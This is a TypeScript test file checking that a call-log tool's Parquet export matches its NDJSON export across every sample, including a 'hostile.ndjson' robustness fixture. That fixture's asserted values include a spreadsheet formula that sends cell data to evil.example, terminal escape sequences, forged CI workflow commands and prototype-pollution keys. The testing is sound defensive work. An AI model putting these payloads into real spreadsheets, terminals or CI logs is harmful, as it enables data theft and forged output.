// export --format parquet, read back with an independent reader (hyparquet) and compared, column by column and
// row by row, with the NDJSON export of the same rows, per call and per event, on every sample (hostile.ndjson
// included); the file's types checked against the documented schema; row groups written as the rows come.
import { readdirSync } from "node:fs";
import { Readable } from "node:stream";
import { fileURLToPath } from "node:url";
import { type FileMetaData, parquetMetadata, parquetReadObjects } from "hyparquet";
import { beforeAll, describe, expect, it } from "vitest";
import { type ExportOptions, exportCalls, exportParquet } from "../../src/commands/export.js";
import { inputSources } from "../../src/ingest/read.js";
import { loadSchemaDocument } from "../../src/ingest/schema-file.js";
import { createEventValidator, type EventValidator } from "../../src/ingest/validate.js";
import { exportOptions } from "../support/export-options.js";

const SAMPLES = fileURLToPath(new URL("../../samples/", import.meta.url));
const sampleNames = readdirSync(SAMPLES).filter((name) => name.endsWith(".ndjson"));
const files = (...names: string[]) =>
  inputSources(
    names.map((name) => `${SAMPLES}${name}`),
    Readable.from([]),
  );

let validator: EventValidator;
beforeAll(async () => {
  validator = createEventValidator(await loadSchemaDocument());
});

function options(rows: "calls" | "events", extra: Partial<ExportOptions> = {}): ExportOptions {
  return exportOptions(validator, rows, extra);
}

async function ndjsonRows(names: string[], rows: "calls" | "events"): Promise<Record<string, unknown>[]> {
  const chunks: string[] = [];
  await exportCalls(files(...names), options(rows), (chunk) => chunks.push(chunk));
  const text = chunks.join("");
  return text === ""
    ? []
    : text
        .trimEnd()
        .split("\n")
        .map((line) => JSON.parse(line));
}

async function parquetFile(
  names: string[],
  rows: "calls" | "events",
  rowGroupRows?: number,
  threads?: number,
): Promise<{ bytes: Buffer; chunks: number; lengths: number[] }> {
  const chunks: Uint8Array[] = [];
  const extra = {
    ...(rowGroupRows === undefined ? {} : { rowGroupRows }),
    ...(threads === undefined ? {} : { threads }),
  };
  await exportParquet(files(...names), options(rows, { format: "parquet", ...extra }), (chunk) =>
    chunks.push(chunk),
  );
  return { bytes: Buffer.concat(chunks), chunks: chunks.length, lengths: chunks.map((c) => c.length) };
}

function arrayBuffer(bytes: Buffer): ArrayBuffer {
  return bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer;
}

/** Each column's schema element, as the documented types say it must be (README, "Parquet types"). */
const STRING = { type: "BYTE_ARRAY", converted_type: "UTF8", logical_type: { type: "STRING" } };
const TIMESTAMP = {
  type: "INT64",
  converted_type: "TIMESTAMP_MILLIS",
  logical_type: { type: "TIMESTAMP", isAdjustedToUTC: true, unit: "MILLIS" },
};
const DOUBLE = { type: "DOUBLE" };
const JSON_TYPE = { type: "BYTE_ARRAY", converted_type: "JSON", logical_type: { type: "JSON" } };
type Expected = [string, Record<string, unknown> | "list", "REQUIRED" | "OPTIONAL"];
const CALL_TYPES: Expected[] = [
  ["session_id", STRING, "REQUIRED"],
  ["status", STRING, "REQUIRED"],
  ["accountcode", STRING, "OPTIONAL"],
  ["direction", STRING, "OPTIONAL"],
  ["type", STRING, "OPTIONAL"],
  ["subtype", STRING, "OPTIONAL"],
  ["started_at", TIMESTAMP, "OPTIONAL"],
  ["ended_at", TIMESTAMP, "OPTIONAL"],
  ["duration_s", DOUBLE, "OPTIONAL"],
  ["ring_attempts", { type: "INT32" }, "REQUIRED"],
  ["first_ring_at", TIMESTAMP, "OPTIONAL"],
  ["answered_at", TIMESTAMP, "OPTIONAL"],
  ["time_to_answer_s", DOUBLE, "OPTIONAL"],
  ["talk_s", DOUBLE, "OPTIONAL"],
  ["final_state", STRING, "REQUIRED"],
  ["answered", { type: "BOOLEAN" }, "OPTIONAL"],
  ["hanged_by", STRING, "OPTIONAL"],
  ["hanged_value", STRING, "OPTIONAL"],
  ["hanged_user", STRING, "OPTIONAL"],
  ["operator", STRING, "OPTIONAL"],
  ["campaign_id", STRING, "OPTIONAL"],
  ["contact_id", STRING, "OPTIONAL"],
  ["trace_id", STRING, "OPTIONAL"],
  ["audio_url", STRING, "OPTIONAL"],
  ["anomalies", "list", "REQUIRED"],
  ["ring_states", "list", "REQUIRED"],
  ["wait_s", { type: "DOUBLE" }, "OPTIONAL"],
  ["closed", { type: "BOOLEAN" }, "OPTIONAL"],
];
const EVENT_TYPES: Expected[] = [
  ["event", STRING, "OPTIONAL"],
  ["id", STRING, "OPTIONAL"],
  ["timestamp", TIMESTAMP, "REQUIRED"],
  ["accountcode", STRING, "OPTIONAL"],
  ["session_id", STRING, "REQUIRED"],
  ...["call_id", "direction", "type", "subtype", "phase"].map((name): Expected => [name, STRING, "OPTIONAL"]),
  ["participants", { type: "INT64" }, "OPTIONAL"],
  ...[
    "leg",
    "state",
    "subject_type",
    "subject",
    "subject_user",
    "hanged_by",
    "hanged_value",
    "hanged_user",
  ].map((name): Expected => [name, STRING, "OPTIONAL"]),
  ["is_answered", { type: "BOOLEAN" }, "OPTIONAL"],
  ...["audio_url", "campaign_id", "contact_id", "trace_id"].map(
    (name): Expected => [name, STRING, "OPTIONAL"],
  ),
  ["data", JSON_TYPE, "OPTIONAL"],
  ["extra", JSON_TYPE, "OPTIONAL"],
  ["session_status", STRING, "REQUIRED"],
  ["file", STRING, "REQUIRED"],
  ["line", { type: "INT64" }, "REQUIRED"],
];

/** The file's schema as [name, element without name/repetition, repetition] of its top-level columns. */
function expectSchema(metadata: FileMetaData, expected: Expected[]): void {
  const [root, ...elements] = metadata.schema;
  expect(root?.num_children).toBe(expected.length);
  const top: Expected[] = [];
  for (let i = 0; i < elements.length; i += 1) {
    const { name, repetition_type, num_children, ...rest } = elements[i] as (typeof elements)[number];
    if (num_children !== undefined) {
      // A LIST: the three levels of the spec, text elements.
      expect(rest).toEqual({ converted_type: "LIST", logical_type: { type: "LIST" } });
      expect(elements[i + 1]).toEqual({ name: "list", repetition_type: "REPEATED", num_children: 1 });
      expect(elements[i + 2]).toEqual({ name: "element", repetition_type: "REQUIRED", ...STRING });
      top.push([name, "list", repetition_type as "REQUIRED"]);
      i += 2;
    } else top.push([name, rest, repetition_type as "REQUIRED"]);
  }
  expect(top).toEqual(expected);
}

const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g;

/** Whether a string has no lone surrogate (String.prototype.isWellFormed, not in the ES2023 typings). */
const isWellFormed = (text: string): boolean => text.match(LONE_SURROGATE) === null;

/** Every column of every row: the Parquet value is the NDJSON value in the column's type. */
function expectSameRows(
  fromParquet: Record<string, unknown>[],
  fromNdjson: Record<string, unknown>[],
  types: Expected[],
): { surrogateValues: number } {
  expect(fromParquet).toHaveLength(fromNdjson.length);
  let surrogateValues = 0;
  fromNdjson.forEach((expectedRow, i) => {
    const row = fromParquet[i] as Record<string, unknown>;
    expect(Object.keys(row)).toEqual(Object.keys(expectedRow));
    for (const [name, type] of types) {
      const want = expectedRow[name];
      const got = row[name];
      const where = `row ${i} column ${name}`;
      if (want === null) {
        expect(got, where).toBeNull();
      } else if (type === "list") {
        expect(got, where).toEqual(want);
      } else if (type === TIMESTAMP) {
        expect(got, where).toBeInstanceOf(Date);
        expect((got as Date).toISOString(), where).toBe(want);
      } else if (type === STRING) {
        // The NDJSON is I-JSON: a lone surrogate of the input is U+FFFD there, and so in the Parquet.
        expect(isWellFormed(want as string), where).toBe(true);
        if ((want as string).includes("\ufffd")) surrogateValues += 1;
        expect(got, where).toBe(want);
      } else if (type === JSON_TYPE) {
        expect(got, where).toEqual(want);
      } else if ((type as { type: string }).type === "INT64") {
        expect(got, where).toBe(BigInt(want as number));
      } else {
        expect(got, where).toBe(want);
      }
    }
  });
  return { surrogateValues };
}

describe("export --format parquet = export --format ndjson, every column of every row", () => {
  for (const [rows, types] of [
    ["calls", CALL_TYPES],
    ["events", EVENT_TYPES],
  ] as const) {
    it.each(sampleNames)(`${rows}: %s`, async (name) => {
      const expected = await ndjsonRows([name], rows);
      expect(expected.length).toBeGreaterThan(0);
      // Row groups of 7 rows, so that most samples span several and their seams are compared too.
      const { bytes } = await parquetFile([name], rows, 7);
      const metadata = parquetMetadata(arrayBuffer(bytes));
      expectSchema(metadata, types);
      expect(metadata.num_rows).toBe(BigInt(expected.length));
      expect(metadata.row_groups.map((group) => Number(group.num_rows))).toEqual(
        Array.from({ length: Math.ceil(expected.length / 7) }, (_, i) =>
          Math.min(7, expected.length - i * 7),
        ),
      );
      for (const group of metadata.row_groups) {
        for (const column of group.columns) expect(column.meta_data?.codec).toBe("SNAPPY");
      }
      const read = await parquetReadObjects({ file: arrayBuffer(bytes) });
      const { surrogateValues } = expectSameRows(read, expected, types);
      // Only hostile.ndjson has lone surrogates: its session s-7 (one call row; one event, START).
      expect(surrogateValues).toBe(name === "hostile.ndjson" ? 1 : 0);
    });
  }

  it("hostile.ndjson: NUL, escapes, formulas, __proto__ keys stay exact; a lone surrogate becomes U+FFFD", async () => {
    const { bytes } = await parquetFile(["hostile.ndjson"], "events");
    const read = await parquetReadObjects({ file: arrayBuffer(bytes) });
    const values = read.flatMap((row) => Object.values(row));
    expect(values).toContain("t\u0000x"); // data.trace_id with an escaped NUL (line 2)
    expect(values).toContain('=HYPERLINK("http://evil.example/?d="&A1,"click")');
    expect(values).toContain("s-5-\u001b]0;pwned\u0007-\u001b[2J");
    expect(values).toContain("s-8\r\n::error file=evil.ndjson,line=1::forged");
    expect(values).toContain("s-7-%0A::add-mask::x,y:z-\ufffd");
    expect(values).not.toContain("s-7-%0A::add-mask::x,y:z-\\ud800");
    const extra = read.find((row) => row.session_id === "hasOwnProperty" && row.extra !== null)?.extra;
    expect(Object.keys(extra as object)).toEqual(["__proto__", "constructor"]);
    // The raw bytes hold the U+FFFD (EF BF BD) written for it, and no lone surrogate escaped as text.
    expect(bytes.includes(Buffer.from("\ufffd"))).toBe(true);
  });
});

describe("exportParquet with one thread (threads: 1) encodes in this thread", () => {
  for (const rows of ["calls", "events"] as const) {
    it.each(sampleNames)(`${rows}: %s, the worker's very bytes in the very chunks`, async (name) => {
      for (const rowGroupRows of [7, undefined]) {
        const threaded = await parquetFile([name], rows, rowGroupRows);
        const one = await parquetFile([name], rows, rowGroupRows, 1);
        expect(one.lengths, `groups of ${rowGroupRows}`).toEqual(threaded.lengths);
        expect(one.bytes.equals(threaded.bytes), `groups of ${rowGroupRows}`).toBe(true);
      }
    });
  }
});

describe("exportParquet streams row groups", () => {
  it("hands out each row group's bytes as soon as it is full, the footer at the end", async () => {
    const chunks: Uint8Array[] = [];
    await exportParquet(
      files("mixed-day.ndjson"),
      options("calls", { format: "parquet", rowGroupRows: 10 }),
      (c) => chunks.push(c),
    );
    // 38 rows in groups of 10: PAR1 and group 1, group 2, group 3 while the scan runs; at the end the last
    // group of 8, then the footer.
    expect(chunks).toHaveLength(5);
    const file = Buffer.concat(chunks);
    expect(file.subarray(0, 4).toString()).toBe("PAR1");
    expect(file.subarray(-4).toString()).toBe("PAR1");
    const metadata = parquetMetadata(arrayBuffer(file));
    expect(metadata.row_groups.map((g) => Number(g.num_rows))).toEqual([10, 10, 10, 8]);
    // Each chunk but the last ends exactly where the next row group (or the footer's indexes) starts.
    let offset = 0;
    metadata.row_groups.slice(1).forEach((group, i) => {
      offset += (chunks[i] as Uint8Array).length;
      const first = group.columns[0]?.meta_data;
      expect(Number(first?.dictionary_page_offset ?? first?.data_page_offset)).toBe(offset);
    });
  });

  it("an input without sessions gives a valid file with the schema and no rows", async () => {
    const chunks: Uint8Array[] = [];
    const empty = [{ name: "empty.ndjson", open: () => Readable.from([Buffer.from("\n")]) }];
    const summary = await exportParquet(empty, options("events", { format: "parquet" }), (c) =>
      chunks.push(c),
    );
    expect(summary.rows).toBe(0);
    const file = Buffer.concat(chunks);
    const metadata = parquetMetadata(arrayBuffer(file));
    expect(metadata.num_rows).toBe(0n);
    expectSchema(metadata, EVENT_TYPES);
    expect(await parquetReadObjects({ file: arrayBuffer(file) })).toEqual([]);
  });

  it("events: one row per event used after dedupe (late-and-duplicates.ndjson: 55 of 65 lines)", async () => {
    const chunks: Uint8Array[] = [];
    const summary = await exportParquet(
      files("late-and-duplicates.ndjson"),
      options("events", { format: "parquet" }),
      (c) => chunks.push(c),
    );
    // samples/README.md: 65 lines = 55 events + 1 invalid + 6 duplicates + 3 late; 7 complete sessions.
    expect(summary).toMatchObject({ rows: 55, sessions: 7, complete: 7, incomplete: 0 });
    const read = await parquetReadObjects({ file: arrayBuffer(Buffer.concat(chunks)) });
    expect(read).toHaveLength(55);
    const lines = read.map((row) => Number(row.line));
    // The late events (57, 58, 64), the conflicting duplicate (24) are not rows.
    for (const line of [24, 57, 58, 64]) expect(lines).not.toContain(line);
    expect(new Set(lines).size).toBe(55);
  });
});
